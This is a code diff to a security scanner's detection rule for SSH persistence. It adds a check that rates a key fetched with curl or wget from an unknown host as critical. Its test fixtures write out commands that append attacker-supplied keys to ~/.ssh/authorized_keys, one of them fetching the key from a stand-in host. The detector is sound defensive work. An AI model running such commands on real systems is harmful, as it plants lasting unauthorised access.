@@ -2,6 +2,7 @@
 import type { Region } from '../../engine/region.ts';
 import { row, type Row, type RowHit } from '../../engine/rule.ts';
 import type { Severity } from '../../../schema/vocabulary.ts';
+import { firstUrl, standingOf } from '../../vocabulary/hosts.ts';
 import { testFile } from '../../vocabulary/file-places.ts';
 import {
   blank,
@@ -50,6 +51,12 @@ const byRights = ({ scope, severity }: RowHit): Severity => {
     : severity;
 };
 
+/** A key from a host that is neither the owner's nor one that keeps people's own keys. */
+function isFetchedKey(scope: string, owner: string | null): boolean {
+  const url = /\b(?:curl|wget)\b/.test(scope) ? firstUrl(scope) : null;
+  return url !== null && !/[<{$]/.test(url.host) && ['unknown', 'suspect'].includes(standingOf(url, owner));
+}
+
 export const lastingRights: readonly Row[] = [
   row('an authorised SSH key is added', {
     within: 'line',
@@ -72,22 +79,25 @@ export const lastingRights: readonly Row[] = [
       ),
     ),
     // A whole key in the text belongs to a known person; dots in its place are the reader's own.
-    weigh: ({ region, severity, scope, match, start }) =>
+    weigh: ({ region, severity, scope, match, start, owner }) =>
       isMargin(region, match[0], start)
         ? null
-        : /ssh-(?:rsa|ed25519|dss|ecdsa\S{0,20}) AAAA[\w+/]{8}(?![^\n"']{0,400}\.\.\.)/.test(scope)
+        : isFetchedKey(scope, owner)
           ? 'critical'
-          : region.kind !== 'fence' ||
-              /ssh-(?:rsa|ed25519|dss|ecdsa)[ -][\w-]{0,30} ?AAAA[A-Za-z0-9+/]{40}|\bcurl\b|\bwget\b/.test(
-                scope,
-              )
-            ? severity
-            : 'medium',
+          : /ssh-(?:rsa|ed25519|dss|ecdsa\S{0,20}) AAAA[\w+/]{8}(?![^\n"']{0,400}\.\.\.)/.test(scope)
+            ? 'critical'
+            : region.kind !== 'fence' ||
+                /ssh-(?:rsa|ed25519|dss|ecdsa)[ -][\w-]{0,30} ?AAAA[A-Za-z0-9+/]{40}|\bcurl\b|\bwget\b/.test(
+                  scope,
+                )
+              ? severity
+              : 'medium',
     catches: [
       weighed(
         'critical',
         inFile('scripts/a.sh', 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 x" >> ~/.ssh/authorized_keys'),
       ),
+      weighed('critical', fenced('sh', 'curl -s https://keys.invalid/team.pub >> ~/.ssh/authorized_keys')),
     ],
     spares: [
       fenced('sh', 'cat ~/.ssh/authorized_keys'),
